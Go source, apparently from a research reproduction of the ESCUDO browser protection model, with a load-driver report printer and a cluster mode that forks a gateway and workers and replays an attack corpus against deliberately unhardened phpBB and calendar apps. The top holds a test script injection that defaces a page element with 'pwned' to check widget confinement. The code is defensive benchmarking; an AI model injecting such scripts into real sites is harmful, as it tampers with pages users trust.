						`document.getElementById("chrome").innerHTML = "pwned";`); err == nil {
						return fmt.Errorf("delegation failed to confine the widget to its floor")
					}
				}
				return nil
			})
		}))
	}
	report.Policy = polSection

	// HTTP section — the client/server split: the same origins served
	// from a real net/http gateway, the same workloads replayed by
	// fresh sessions over loopback sockets through the shared decision
	// cache, and the attack corpus cross-checked transport-for-
	// transport.
	if *httpAddr != "" {
		h, err := runHTTPSection(httpSectionConfig{
			addr:       *httpAddr,
			workers:    *httpWorkers,
			queue:      *httpQueue,
			sessions:   *sessionsN,
			iters:      *iters,
			mixedIters: *mixedIters,
			attacksOn:  *attacksOn,
			tls:        *tlsOn,
			pprofOn:    *pprofOn,
			mode:       mode,
			uncached:   *uncached,
			cache:      pool.Cache(),
			net:        net,
			policies:   policies,
			bench:      benchOrigin,
			forum:      forumOrigin,
			cal:        calOrigin,
			portal:     portalOrigin,
			topicID:    topicID,
			memAttacks: memAttacks,
			reg:        reg,
			ring:       ring,
			stages:     stages,
			slow:       slowRing,
			soak:       *soak,
		})
		if err != nil {
			return err
		}
		report.HTTP = h
	}

	// SLO section — open-loop Poisson arrivals against a dedicated
	// loopback gateway sharing the substrate, cache, and observability
	// plane: offered vs achieved rate, per-stage tails, churn
	// bookkeeping, exemplar traces, and the window's leak verdict.
	if *openloopFlag != "" {
		res, err := runOpenLoopSection(openLoopSectionConfig{
			spec:     olSpec,
			sessions: *sessionsN,
			workers:  *httpWorkers,
			queue:    *httpQueue,
			httpCfg: httpSectionConfig{
				mode:     mode,
				uncached: *uncached,
				cache:    pool.Cache(),
				net:      net,
				policies: policies,
				bench:    benchOrigin,
				forum:    forumOrigin,
				reg:      reg,
				ring:     ring,
			},
			stages: stages,
			slow:   slowRing,
		})
		if err != nil {
			return err
		}
		report.SLO = res
	}

	// Control-plane section — a dedicated multi-tenant gateway, a live
	// policy flip pushed mid-load, and the noisy-neighbor harness. Runs
	// on its own gateway and pool so its storm (which invalidates its
	// decision cache) cannot perturb the equivalence-checked phases.
	if *controlOn {
		c, err := runControlSection(controlSectionConfig{
			tenants:   *tenantsN,
			sessions:  *sessionsN,
			iters:     *iters,
			workers:   *httpWorkers,
			queue:     *httpQueue,
			mode:      mode,
			uncached:  *uncached,
			attacksOn: *attacksOn,
		})
		if err != nil {
			return err
		}
		report.Control = c
	}

	// Script section — interpreter vs compiled VM on the shared corpus,
	// after every workload phase so the compile-cache counters cover
	// the run's full <script> traffic.
	if *scriptIters > 0 {
		s, err := runScriptSection(*scriptIters)
		if err != nil {
			return err
		}
		report.Script = s
	}

	// Close the observability window: a final sample, then the obs
	// section with the run's build stamp, sampler series, and
	// decision-trace ring traffic.
	sampStats := smp.Stop()
	report.Obs = &obsJSON{
		Version:                obs.Version(),
		Sampler:                sampStats,
		DecisionEventsRecorded: ring.Total(),
		DecisionEventsRetained: ring.Len(),
	}

	report.TotalMs = ms(time.Since(total))

	data, err := json.MarshalIndent(report, "", "  ")
	if err != nil {
		return err
	}
	data = append(data, '\n')
	if err := os.WriteFile(*out, data, 0o644); err != nil {
		return err
	}

	fmt.Printf("ESCUDO engine load driver — %d sessions, mode %s (GOMAXPROCS %d)\n\n",
		report.Sessions, report.Mode, report.GoMaxProcs)
	t := metrics.NewTable("Phase", "Tasks", "p50 (ms)", "p99 (ms)", "Decisions", "Dec/s", "Cache hit rate", "Batch n→k")
	for _, ph := range report.Phases {
		hitRate := "-"
		if ph.Cache != nil {
			hitRate = fmt.Sprintf("%.1f%%", 100*ph.Cache.HitRate)
		}
		batch := "-"
		if ph.Batch != nil {
			batch = fmt.Sprintf("%d→%d", ph.Batch.NodesAuthorized, ph.Batch.DistinctDecisions)
		}
		t.AddRow(ph.Name,
			fmt.Sprintf("%d", ph.Tasks),
			fmt.Sprintf("%.3f", ph.P50Ms),
			fmt.Sprintf("%.3f", ph.P99Ms),
			fmt.Sprintf("%d", ph.Decisions),
			fmt.Sprintf("%.0f", ph.DecisionsPerSec),
			hitRate,
			batch)
	}
	fmt.Print(t.String())
	for _, ph := range report.Phases {
		if ph.Attacks != nil {
			fmt.Printf("\nAttack corpus: %d/%d neutralized under %s\n",
				ph.Attacks.Neutralized, ph.Attacks.Total, report.Mode)
		}
		if ph.Errors > 0 {
			return fmt.Errorf("phase %s had %d task errors", ph.Name, ph.Errors)
		}
	}
	if v := report.ProcsVariant; v != nil {
		fmt.Printf("\nGOMAXPROCS=%d variant (requested %d):\n", v.GoMaxProcs, v.Procs)
		for _, ph := range v.Phases {
			fmt.Printf("  %s: %d tasks, p50 %.3f ms, p99 %.3f ms\n",
				ph.Name, ph.Tasks, ph.P50Ms, ph.P99Ms)
			if ph.Errors > 0 {
				return fmt.Errorf("phase %s had %d task errors", ph.Name, ph.Errors)
			}
		}
	}
	if pol := report.Policy; pol != nil {
		fmt.Printf("\nPolicy: %d origin documents (%d delegations), round-trip ok=%v\n",
			len(pol.Origins), pol.Delegations, pol.RoundTripOK)
		if !pol.RoundTripOK {
			return fmt.Errorf("policy documents failed the serialization round trip")
		}
		for _, ph := range pol.Phases {
			fmt.Printf("  %s: %d tasks, p50 %.3f ms, %d decisions\n",
				ph.Name, ph.Tasks, ph.P50Ms, ph.Decisions)
			if ph.Errors > 0 {
				return fmt.Errorf("phase %s had %d task errors", ph.Name, ph.Errors)
			}
		}
	}
	if s := report.Script; s != nil {
		fmt.Printf("\nScript engines (%d-script corpus, %d passes × %d rounds):\n",
			s.CorpusScripts, s.Passes, s.Rounds)
		fmt.Printf("  eval: %.0f ops/s (%.0f ns/op, %.0f allocs/op)\n",
			s.Eval.OpsPerSec, s.Eval.NsPerOp, s.Eval.AllocsPerOp)
		fmt.Printf("  vm:   %.0f ops/s (%.0f ns/op, %.0f allocs/op)\n",
			s.VM.OpsPerSec, s.VM.NsPerOp, s.VM.AllocsPerOp)
		fmt.Printf("  speedup %.2fx, alloc ratio %.3fx, compile cache %d hits / %d misses\n",
			s.Speedup, s.AllocRatio, s.CompileCacheHits, s.CompileCacheMisses)
	}
	if h := report.HTTP; h != nil {
		fmt.Printf("\nHTTP gateway at %s — %d workers, queue %d per origin\n\n",
			h.Addr, h.Workers, h.QueueDepth)
		ht := metrics.NewTable("Phase", "Tasks", "p50 (ms)", "p99 (ms)", "Reqs", "Reqs/s", "503s", "Queue max", "Cache hit rate")
		for _, ph := range h.Phases {
			ht.AddRow(ph.Name,
				fmt.Sprintf("%d", ph.Tasks),
				fmt.Sprintf("%.3f", ph.P50Ms),
				fmt.Sprintf("%.3f", ph.P99Ms),
				fmt.Sprintf("%d", ph.Requests),
				fmt.Sprintf("%.0f", ph.ReqsPerSec),
				fmt.Sprintf("%d", ph.Rejected503),
				fmt.Sprintf("%d", ph.QueueDepthMax),
				fmt.Sprintf("%.1f%%", 100*ph.CacheHitRate))
		}
		fmt.Print(ht.String())
		if h.Client != nil {
			proto := h.Proto
			if proto == "" {
				proto = "?"
			}
			fmt.Printf("\nTransport: proto %s, conn reuse %.2f (%d new / %d reused), %.0f allocs/request\n",
				proto, h.Client.ReuseRate, h.Client.NewConns, h.Client.ReusedConns, h.AllocsPerRequest)
		}
		if h.Attacks != nil {
			fmt.Printf("\nAttack corpus over sockets: %d/%d neutralized under %s (verdicts match in-memory: %v)\n",
				h.Attacks.Neutralized, h.Attacks.Total, report.Mode, *h.AttacksMatchMemory)
		}
		for _, ph := range h.Phases {
			if ph.Errors > 0 {
				return fmt.Errorf("phase %s had %d task errors", ph.Name, ph.Errors)
			}
		}
	}
	if c := report.Control; c != nil {
		if err := printControl(c); err != nil {
			return err
		}
	}
	if s := report.SLO; s != nil {
		if err := printSLO(s); err != nil {
			return err
		}
	}
	if o := report.Obs; o != nil {
		fmt.Printf("\nObs: %s, %d samples every %.0f ms — goroutines first/post-warmup/last %d/%d/%d, heap monotonic=%v, %d GC cycles, %d decision events (%d retained)\n",
			o.Version.Go, o.Sampler.Samples, o.Sampler.IntervalMs,
			o.Sampler.Goroutines.First, o.Sampler.PostWarmupGoroutines, o.Sampler.Goroutines.Last,
			o.Sampler.HeapMonotonic, o.Sampler.NumGC,
			o.DecisionEventsRecorded, o.DecisionEventsRetained)
	}
	fmt.Printf("\nWrote %s (%.0f ms total)\n", *out, report.TotalMs)
	return nil
}
