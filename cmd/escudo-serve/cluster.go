// The multi-process modes of escudo-serve: -serve-only (a gateway
// process that mounts the substrate and serves until SIGTERM),
// -connect (a loadgen worker process driving a remote gateway and
// writing a BENCH shard), and -cluster N (a supervisor that fork/execs
// one server plus N workers and merges the shards into the `cluster`
// section of BENCH_engine.json).
//
// Enforcement placement is the whole point: the reference monitors run
// inside the worker processes' browsers, and the server process is a
// dumb policy-serving transport — so the cluster benchmark measures
// Escudo mediation with client and server genuinely across a process
// (and, with -tls, a cryptographic) boundary.
package main

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"sync"
	"time"

	"repro/internal/apps/phpbb"
	"repro/internal/apps/phpcal"
	"repro/internal/attack"
	"repro/internal/browser"
	"repro/internal/cluster"
	"repro/internal/core"
	"repro/internal/engine"
	"repro/internal/httpd"
	"repro/internal/metrics"
	"repro/internal/nonce"
	"repro/internal/obs"
	"repro/internal/origin"
	"repro/internal/policy"
	"repro/internal/scenarios"
	"repro/internal/web"
)

// parseMode maps the -mode flag onto a browser mode.
func parseMode(s string) (browser.Mode, error) {
	switch s {
	case "escudo":
		return browser.ModeEscudo, nil
	case "sop":
		return browser.ModeSOP, nil
	default:
		return 0, fmt.Errorf("unknown -mode %q", s)
	}
}

// substrate is the shared benchmark world: the Figure-4 scenario
// server, phpBB, PHP-Calendar, the mashup portal and its widget, and
// the origins' unified policy documents. Server and worker processes
// agree on it by construction — the origins are fixed names, and the
// worker only ever talks to them through the gateway.
type substrate struct {
	net                               *web.Network
	bench, forum, cal, portal, widget origin.Origin
	topicID                           int
	portalPolicy                      policy.Policy
	policies                          map[string]policy.Policy
}

// substrateOrigins and substratePolicies are the counts the cluster
// supervisor cross-checks against /metricsz and /policyz.
const (
	substrateOrigins  = 5
	substratePolicies = 4
)

// buildSubstrate assembles the substrate with one phpBB/PHP-Calendar
// account per session.
func buildSubstrate(users int) *substrate {
	s := &substrate{
		net:    web.NewNetwork(),
		bench:  origin.MustParse("http://bench.example"),
		forum:  origin.MustParse("http://forum.example"),
		cal:    origin.MustParse("http://cal.example"),
		portal: origin.MustParse("http://portal.example"),
		widget: origin.MustParse("http://widget.example"),
	}
	s.net.Register(s.bench, scenarios.Handler())

	forum := phpbb.New(phpbb.Config{
		Origin: s.forum, Hardened: false, Escudo: true, Nonces: nonce.CryptoSource{},
	})
	for i := 0; i < users; i++ {
		forum.AddUser(fmt.Sprintf("user%d", i), "pw")
	}
	s.topicID = forum.SeedTopic("user0", "Welcome", "first post")
	s.net.Register(s.forum, forum)

	cal := phpcal.New(phpcal.Config{
		Origin: s.cal, Hardened: false, Escudo: true, Nonces: nonce.CryptoSource{},
	})
	for i := 0; i < users; i++ {
		cal.AddUser(fmt.Sprintf("user%d", i), "pw")
	}
	cal.SeedEvent("user0", 1, "kickoff")
	s.net.Register(s.cal, cal)

	s.net.Register(s.portal, portalHandler())
	s.net.Register(s.widget, web.HandlerFunc(func(req *web.Request) *web.Response {
		return web.HTML(`<html><body><p id=w>widget content</p></body></html>`)
	}))

	// The unified policy documents: derived from the apps' Table 3/
	// Table 5 configurations and the scenario server, plus the
	// portal's §7 delegation of ring 2 to the widget origin.
	s.portalPolicy = policy.New(s.portal, core.DefaultMaxRing)
	s.portalPolicy.Delegate(s.widget, 2)
	s.policies = map[string]policy.Policy{
		s.bench.String():  scenarios.Policy(s.bench),
		s.forum.String():  forum.Policy(),
		s.cal.String():    cal.Policy(),
		s.portal.String(): s.portalPolicy,
	}
	return s
}

// serveOnlyConfig parameterizes the server process.
type serveOnlyConfig struct {
	addr           string
	sessions       int
	accounts       int
	workers, queue int
	tls            bool
	tlsCAOut       string
	addrFile       string
	statsFile      string
}

// runServeOnly mounts the substrate on a gateway and serves until the
// stop channel closes (SIGTERM in production), then shuts down
// gracefully and writes its gateway-side stats. Readiness protocol:
// the gateway starts in HoldReady, the address file is written as soon
// as the listener is bound (so a supervisor can begin polling), and
// /healthz flips from "starting" to ok only after a warm self-check
// round-trips a scenario page through the full stack.
func runServeOnly(cfg serveOnlyConfig, stop <-chan struct{}) error {
	// A cluster supervisor passes -accounts workers×sessions so every
	// worker process gets a private, non-overlapping phpBB account
	// range; a bare serve-only run registers one account per session.
	users := cfg.sessions
	if cfg.accounts > users {
		users = cfg.accounts
	}
	sub := buildSubstrate(users)
	originCfgs := map[string]httpd.OriginConfig{}
	for o, doc := range sub.policies {
		doc := doc
		originCfgs[o] = httpd.OriginConfig{Policy: &doc}
	}
	// The server's observability plane: registry on /varz, a decision
	// ring on /tracez (enforcement runs in the workers, so the server's
	// ring stays empty — the endpoint existing uniformly across modes
	// is the point), and a runtime sampler for the server process.
	reg := obs.NewRegistry()
	ring := obs.NewDecisionRing(0)
	smp := obs.NewSampler(reg, 200*time.Millisecond)
	smp.Start()
	gwCfg := httpd.Config{
		Inner:             sub.net,
		DefaultWorkers:    cfg.workers,
		DefaultQueueDepth: cfg.queue,
		Origins:           originCfgs,
		HoldReady:         true,
		Obs:               reg,
		Ring:              ring,
	}
	var ca *httpd.CA
	if cfg.tls {
		c, err := httpd.NewCA()
		if err != nil {
			return err
		}
		ca = c
		gwCfg.TLS = ca
	}
	gw, err := httpd.New(gwCfg)
	if err != nil {
		return err
	}
	if err := gw.MountNetwork(sub.net); err != nil {
		return err
	}
	if err := gw.Start(cfg.addr); err != nil {
		return err
	}
	defer gw.Close() //nolint:errcheck // second Shutdown is a no-op

	// Publish the trust anchor before the address: a worker that can
	// read the address must already be able to read the CA.
	if cfg.tlsCAOut != "" {
		if ca == nil {
			return fmt.Errorf("-tls-ca-out given without -tls")
		}
		if err := ca.WriteCertPEM(cfg.tlsCAOut); err != nil {
			return err
		}
	}
	if cfg.addrFile != "" {
		if err := os.WriteFile(cfg.addrFile, []byte(gw.Addr()), 0o644); err != nil {
			return err
		}
	}

	// Warm self-check: one scenario page through the real stack
	// (socket, vhosting, worker queue, and TLS when on) before
	// declaring readiness.
	var ct *httpd.ClientTransport
	if ca != nil {
		ct = httpd.NewClientTransportTLS(gw.Addr(), ca.Pool())
	} else {
		ct = httpd.NewClientTransport(gw.Addr())
	}
	resp, err := ct.RoundTrip(web.NewRequest("GET", sub.bench.URL(scenarios.Paths()[0])))
	ct.Close()
	if err != nil {
		return fmt.Errorf("self-check: %w", err)
	}
	if resp.Status != 200 {
		return fmt.Errorf("self-check: scenario page answered %d", resp.Status)
	}
	gw.SetReady(true)
	smp.Mark()
	fmt.Printf("escudo-serve: serving %d origins at %s (tls=%v), ready\n",
		substrateOrigins, gw.Addr(), cfg.tls)

	<-stop
	fmt.Println("escudo-serve: SIGTERM, draining")
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if err := gw.Shutdown(ctx); err != nil {
		return fmt.Errorf("graceful shutdown: %w", err)
	}
	if cfg.statsFile != "" {
		sampStats := smp.Stop()
		st := cluster.ServerStats{
			Addr:    gw.Addr(),
			TLS:     cfg.tls,
			Origins: substrateOrigins,
			Gateway: gw.Stats(),
			Version: obs.Version(),
			Obs:     &sampStats,
		}
		data, err := json.MarshalIndent(st, "", "  ")
		if err != nil {
			return err
		}
		if err := os.WriteFile(cfg.statsFile, append(data, '\n'), 0o644); err != nil {
			return err
		}
	}
	fmt.Println("escudo-serve: shut down cleanly")
	return nil
}

// connectConfig parameterizes a loadgen worker process.
type connectConfig struct {
	addr            string
	sessions, iters int
	phpbbIters      int
	mode            browser.Mode
	uncached        bool
	attacksOn       bool
	tls             bool
	tlsCAFile       string
	workerID        int
	httpWorkers     int
	httpQueue       int
	// openloop, when rate > 0, appends an open-loop SLO phase against
	// the remote gateway and writes its mergeable fragment to the
	// shard.
	openloop openLoopSpec
	out      string
}

// clusterTopicID is the seeded phpBB topic every worker browses.
// buildSubstrate seeds exactly one topic into a fresh forum, and phpBB
// IDs are assigned sequentially from 1, so the ID is fixed by
// construction — workers can rely on it without a discovery round-trip.
const clusterTopicID = 1

// clusterAccount names the phpBB/PHP-Calendar account a session owns:
// worker w's sessions take the contiguous block [w×sessions,
// (w+1)×sessions). The ranges are disjoint across workers, so no two
// processes ever share a login — each account's cookie jar, posts, and
// decision stream belong to exactly one session fleet-wide.
func clusterAccount(workerID, sessions, sessionID int) string {
	return fmt.Sprintf("user%d", workerID*sessions+sessionID)
}

// runShardPhase measures one worker phase: per-task latency across
// the pool (point percentiles AND the mergeable histogram) plus the
// client transport's request delta for throughput.
func runShardPhase(pool *engine.Pool, ct *httpd.ClientTransport, name string, fn func()) (cluster.ShardPhase, []error) {
	pool.ResetStats()
	before := ct.Stats()
	start := time.Now()
	fn()
	elapsed := time.Since(start)
	st := pool.Stats()
	wire := ct.Stats().Sub(before)
	ph := cluster.ShardPhase{
		Name:      name,
		Tasks:     st.Tasks,
		Errors:    len(st.Errors),
		P50Ms:     ms(st.P50),
		P99Ms:     ms(st.P99),
		MeanMs:    ms(st.Mean),
		ElapsedMs: ms(elapsed),
		Requests:  wire.Requests,
		Hist:      st.Hist,
	}
	if secs := elapsed.Seconds(); secs > 0 {
		ph.ReqsPerSec = float64(wire.Requests) / secs
	}
	return ph, st.Errors
}

// runConnect is the worker process: it trusts the remote gateway (via
// the CA bundle when TLS), replays the figure-4 workload over the
// process boundary, replays the §6.4 attack corpus over per-
// environment local gateways (TLS when -tls), cross-checks every
// socket verdict against an in-memory run of the same attack, and
// writes its BENCH shard.
func runConnect(cfg connectConfig) error {
	start := time.Now()
	if cfg.tls && cfg.tlsCAFile == "" {
		return fmt.Errorf("-connect with -tls needs -tls-ca (the server's CA bundle)")
	}
	// One source of truth: the CA bundle decides TLS for the main
	// transport, the shard label, and the attack-env gateways alike.
	cfg.tls = cfg.tlsCAFile != ""
	var ct *httpd.ClientTransport
	if cfg.tls {
		pool, err := httpd.LoadCAPool(cfg.tlsCAFile)
		if err != nil {
			return err
		}
		ct = httpd.NewClientTransportTLS(cfg.addr, pool)
	} else {
		ct = httpd.NewClientTransport(cfg.addr)
	}
	defer ct.Close()

	// Worker-side observability: decisions ring into the worker's own
	// trace buffer (the monitors run here, not in the server), and the
	// runtime sampler feeds the shard's obs section for the supervisor
	// to merge fleet-wide.
	reg := obs.NewRegistry()
	ringSize := 0
	if cfg.openloop.rate > 0 {
		ringSize = 65536
	}
	ring := obs.NewDecisionRing(ringSize)
	smp := obs.NewSampler(reg, 200*time.Millisecond)
	smp.Start()

	// Worker-local latency attribution: the stage histograms and slow
	// ring feed the shard's slo fragment (the supervisor merges the
	// fleet's).
	stages := obs.NewStageSet(reg)
	slowRing := obs.NewSlowRing(0)

	pool, err := engine.NewPool(engine.Config{
		Sessions:  cfg.sessions,
		Transport: ct,
		Options:   browser.Options{Mode: cfg.mode, DecisionRing: ring},
		Uncached:  cfg.uncached,
		Stages:    stages,
		Slow:      slowRing,
	})
	if err != nil {
		return err
	}
	defer pool.Close()

	shard := cluster.Shard{
		Worker:   cfg.workerID,
		PID:      os.Getpid(),
		Sessions: cfg.sessions,
		Mode:     cfg.mode.String(),
		TLS:      cfg.tls,
		Version:  obs.Version(),
	}
	bench := origin.MustParse("http://bench.example")
	paths := scenarios.Paths()

	// Unmeasured warm round: session cookies exist before measurement.
	pool.Each(func(s *engine.Session) error {
		_, err := s.Browser.Navigate(bench.URL(paths[0]))
		return err
	})
	if st := pool.Stats(); len(st.Errors) > 0 {
		return fmt.Errorf("worker %d warmup: %w", cfg.workerID, st.Errors[0])
	}
	smp.Mark()

	ph, errs := runShardPhase(pool, ct, "figure4", func() {
		for r := 0; r < cfg.iters; r++ {
			for _, path := range paths {
				p := path
				pool.Submit(func(s *engine.Session) error {
					_, err := s.Browser.Navigate(bench.URL(p))
					return err
				})
			}
		}
		pool.Wait()
	})
	for _, err := range errs {
		fmt.Fprintf(os.Stderr, "escudo-serve: worker %d figure4: %v\n", cfg.workerID, err)
	}
	shard.Phases = append(shard.Phases, ph)
	if ph.Errors > 0 {
		return fmt.Errorf("worker %d: figure4 had %d task errors", cfg.workerID, ph.Errors)
	}

	// phpBB over the wire: each session logs into its own account from
	// this worker's private range, then alternates index and topic
	// views with the occasional reply — the paper's "active session
	// with a trusted site" workload, here crossing the process (and
	// TLS) boundary. Login is inside the phase on purpose: stateful
	// authenticated traffic is part of what the cluster measures.
	if cfg.phpbbIters > 0 {
		forum := origin.MustParse("http://forum.example")
		ph, errs := runShardPhase(pool, ct, "phpbb", func() {
			pool.Each(func(s *engine.Session) error {
				p, err := s.Browser.Navigate(forum.URL("/"))
				if err != nil {
					return err
				}
				form := p.Doc.ByID("loginform")
				if form == nil {
					return fmt.Errorf("no loginform")
				}
				account := clusterAccount(cfg.workerID, cfg.sessions, s.ID)
				if _, err := p.SubmitForm(form, map[string][]string{
					"username": {account}, "password": {"pw"},
				}); err != nil {
					return err
				}
				for i := 0; i < cfg.phpbbIters; i++ {
					if _, err := s.Browser.Navigate(forum.URL("/")); err != nil {
						return err
					}
					tp, err := s.Browser.Navigate(forum.URL(fmt.Sprintf("/viewtopic?t=%d", clusterTopicID)))
					if err != nil {
						return err
					}
					if i%5 == 4 {
						reply := tp.Doc.ByID("replyform")
						if reply == nil {
							return fmt.Errorf("no replyform")
						}
						if _, err := tp.SubmitForm(reply, map[string][]string{
							"message": {fmt.Sprintf("reply from %s round %d", account, i)},
						}); err != nil {
							return err
						}
					}
				}
				return nil
			})
		})
		for _, err := range errs {
			fmt.Fprintf(os.Stderr, "escudo-serve: worker %d phpbb: %v\n", cfg.workerID, err)
		}
		shard.Phases = append(shard.Phases, ph)
		if ph.Errors > 0 {
			return fmt.Errorf("worker %d: phpbb had %d task errors", cfg.workerID, ph.Errors)
		}
	}

	// Attack replay: each environment is a private substrate, so it
	// runs behind its own local gateway — still real sockets (and TLS
	// when -tls), inside this worker process. The verdict of every
	// socket run must equal the in-memory run's: the transport-
	// independence invariant, asserted per worker.
	var attackWire httpd.ClientStats
	if cfg.attacksOn {
		envCfg := httpd.Config{
			DefaultWorkers:    cfg.httpWorkers,
			DefaultQueueDepth: cfg.httpQueue,
		}
		if cfg.tls {
			envCA, err := httpd.NewCA()
			if err != nil {
				return err
			}
			envCfg.TLS = envCA
		}
		// The attack environments use their own transports; fold their
		// wire traffic into the phase and shard accounting so the
		// numbers cover everything this worker put on sockets.
		var envWire struct {
			mu sync.Mutex
			st httpd.ClientStats
		}
		wrapper := func(n *web.Network) (web.Transport, func(), error) {
			_, c, cleanup, err := httpd.WrapNetwork(n, envCfg, "127.0.0.1:0")
			if err != nil {
				return nil, nil, err
			}
			return c, func() {
				envWire.mu.Lock()
				envWire.st = envWire.st.Add(c.Stats())
				envWire.mu.Unlock()
				cleanup()
			}, nil
		}
		corpus := attack.Corpus()
		memResults := make([]attack.Result, len(corpus))
		sockResults := make([]attack.Result, len(corpus))
		ph, errs := runShardPhase(pool, ct, "attacks", func() {
			for i, atk := range corpus {
				i, atk := i, atk
				pool.Submit(func(*engine.Session) error {
					memResults[i] = attack.RunOneCached(atk, cfg.mode, pool.Cache())
					if memResults[i].Err != nil {
						return memResults[i].Err
					}
					sockResults[i] = attack.RunOneOver(atk, cfg.mode, pool.Cache(), wrapper)
					return sockResults[i].Err
				})
			}
			pool.Wait()
		})
		for _, err := range errs {
			fmt.Fprintf(os.Stderr, "escudo-serve: worker %d attacks: %v\n", cfg.workerID, err)
		}
		envWire.mu.Lock()
		envSt := envWire.st
		envWire.mu.Unlock()
		ph.Requests += envSt.Requests
		if secs := ph.ElapsedMs / 1000; secs > 0 {
			ph.ReqsPerSec = float64(ph.Requests) / secs
		}
		attackWire = envSt
		shard.Phases = append(shard.Phases, ph)
		if ph.Errors > 0 {
			return fmt.Errorf("worker %d: attacks had %d task errors", cfg.workerID, ph.Errors)
		}
		tally := &cluster.ShardAttacks{Total: len(corpus), MatchMemory: true}
		for i, r := range sockResults {
			if r.Neutralized() {
				tally.Neutralized++
			} else {
				tally.Succeeded++
			}
			if memResults[i].Succeeded != r.Succeeded {
				tally.MatchMemory = false
				fmt.Fprintf(os.Stderr,
					"escudo-serve: worker %d VERDICT DIVERGENCE %s: in-memory succeeded=%v, sockets succeeded=%v\n",
					cfg.workerID, corpus[i].Name, memResults[i].Succeeded, r.Succeeded)
			}
		}
		shard.Attacks = tally
		if !tally.MatchMemory {
			return fmt.Errorf("worker %d: attack verdicts diverge between in-memory and socket transports", cfg.workerID)
		}
	}

	// Open-loop SLO phase: this worker offers its share of the fleet's
	// Poisson load against the remote gateway and ships the mergeable
	// fragment in its shard. Sessions churn through this worker's
	// private account range.
	if cfg.openloop.rate > 0 {
		forum := origin.MustParse("http://forum.example")
		res, err := driveOpenLoop(pool, cfg.openloop, bench, forum, stages, slowRing,
			func(id int) string { return clusterAccount(cfg.workerID, cfg.sessions, id) }, nil)
		if err != nil {
			return fmt.Errorf("worker %d openloop: %w", cfg.workerID, err)
		}
		shard.SLO = res
		if res.Errors > 0 {
			return fmt.Errorf("worker %d: openloop had %d task errors", cfg.workerID, res.Errors)
		}
	}

	// Main-gateway transport and attack wire are reported apart: the
	// gateway path is the long-lived pool whose reuse rate the cluster
	// CI gate asserts, while the attack environments are per-attack
	// throwaway gateways whose connections are new by construction.
	shard.Client = cluster.FromClientStats(ct.Stats())
	if cfg.attacksOn {
		ac := cluster.FromClientStats(attackWire)
		shard.AttackClient = &ac
	}
	sampStats := smp.Stop()
	shard.Obs = &sampStats
	shard.ElapsedMs = ms(time.Since(start))
	if err := shard.WriteFile(cfg.out); err != nil {
		return err
	}
	wireReqs := shard.Client.Requests + attackWire.Requests
	fmt.Printf("escudo-serve: worker %d done — %d phases, %d wire requests, shard %s\n",
		cfg.workerID, len(shard.Phases), wireReqs, cfg.out)
	return nil
}

// clusterConfig parameterizes the supervisor mode.
type clusterConfig struct {
	workers     int
	bin         string
	sessions    int
	iters       int
	phpbbIters  int
	mode        string
	attacksOn   bool
	uncached    bool
	tls         bool
	httpWorkers int
	httpQueue   int
	// openloop is the -openloop spec passed through to every worker
	// ("" disables); each worker offers the spec's rate, so the fleet's
	// target is workers × rate and the merged section reflects that.
	openloop string
	out      string
}

// runCluster fork/execs one -serve-only server and N -connect workers
// of this same binary, supervises the run, and merges the shards into
// the `cluster` section of the BENCH report at -out (other sections
// of an existing report are preserved, so a cluster run composes with
// `make serve-http` output).
func runCluster(cfg clusterConfig) error {
	bin := cfg.bin
	if bin == "" {
		exe, err := os.Executable()
		if err != nil {
			return fmt.Errorf("resolving own binary for fork/exec: %w", err)
		}
		bin = exe
	}
	dir, err := os.MkdirTemp("", "escudo-cluster-")
	if err != nil {
		return err
	}
	defer os.RemoveAll(dir)

	addrFile := filepath.Join(dir, "addr")
	statsFile := filepath.Join(dir, "server_stats.json")
	caFile := ""
	serverArgs := []string{
		"-serve-only",
		"-http", "127.0.0.1:0",
		"-sessions", strconv.Itoa(cfg.sessions),
		"-accounts", strconv.Itoa(cfg.workers * cfg.sessions),
		"-http-workers", strconv.Itoa(cfg.httpWorkers),
		"-http-queue", strconv.Itoa(cfg.httpQueue),
		"-addr-file", addrFile,
		"-stats-file", statsFile,
	}
	if cfg.tls {
		caFile = filepath.Join(dir, "ca.pem")
		serverArgs = append(serverArgs, "-tls", "-tls-ca-out", caFile)
	}
	shardFiles := make([]string, cfg.workers)
	for i := range shardFiles {
		shardFiles[i] = filepath.Join(dir, fmt.Sprintf("shard_%d.json", i))
	}

	sup, err := cluster.NewSupervisor(cluster.Config{
		Server:          cluster.Spec{Name: "server", Path: bin, Args: serverArgs},
		NumWorkers:      cfg.workers,
		AddrFile:        addrFile,
		CAFile:          caFile,
		ShardFiles:      shardFiles,
		ServerStatsFile: statsFile,
		ExpectOrigins:   substrateOrigins,
		ExpectPolicies:  substratePolicies,
		Logf: func(format string, args ...any) {
			fmt.Fprintf(os.Stderr, format+"\n", args...)
		},
		Worker: func(i int, addr string) cluster.Spec {
			args := []string{
				"-connect", addr,
				"-worker-id", strconv.Itoa(i),
				"-sessions", strconv.Itoa(cfg.sessions),
				"-iters", strconv.Itoa(cfg.iters),
				"-phpbb-iters", strconv.Itoa(cfg.phpbbIters),
				"-mode", cfg.mode,
				fmt.Sprintf("-attacks=%v", cfg.attacksOn),
				fmt.Sprintf("-uncached=%v", cfg.uncached),
				"-http-workers", strconv.Itoa(cfg.httpWorkers),
				"-http-queue", strconv.Itoa(cfg.httpQueue),
				"-out", shardFiles[i],
			}
			if cfg.tls {
				args = append(args, "-tls", "-tls-ca", caFile)
			}
			if cfg.openloop != "" {
				args = append(args, "-openloop", cfg.openloop)
			}
			return cluster.Spec{Name: fmt.Sprintf("worker-%d", i), Path: bin, Args: args}
		},
	})
	if err != nil {
		return err
	}
	rep, err := sup.Run(context.Background())
	if err != nil {
		return err
	}

	// Merge into the report file: a cluster run refreshes the cluster
	// section and leaves any other sections (in-memory phases, http,
	// policy) from an earlier run intact.
	var report benchJSON
	if data, err := os.ReadFile(cfg.out); err == nil {
		if err := json.Unmarshal(data, &report); err != nil {
			return fmt.Errorf("existing %s is not a BENCH report (move it aside): %w", cfg.out, err)
		}
	} else {
		report.Sessions = cfg.workers * cfg.sessions
		report.Mode = cfg.mode
		report.GoMaxProcs = 0
	}
	report.Cluster = rep
	data, err := json.MarshalIndent(report, "", "  ")
	if err != nil {
		return err
	}
	if err := os.WriteFile(cfg.out, append(data, '\n'), 0o644); err != nil {
		return err
	}

	fmt.Printf("ESCUDO cluster — 1 server + %d workers × %d sessions, tls=%v, server %s\n",
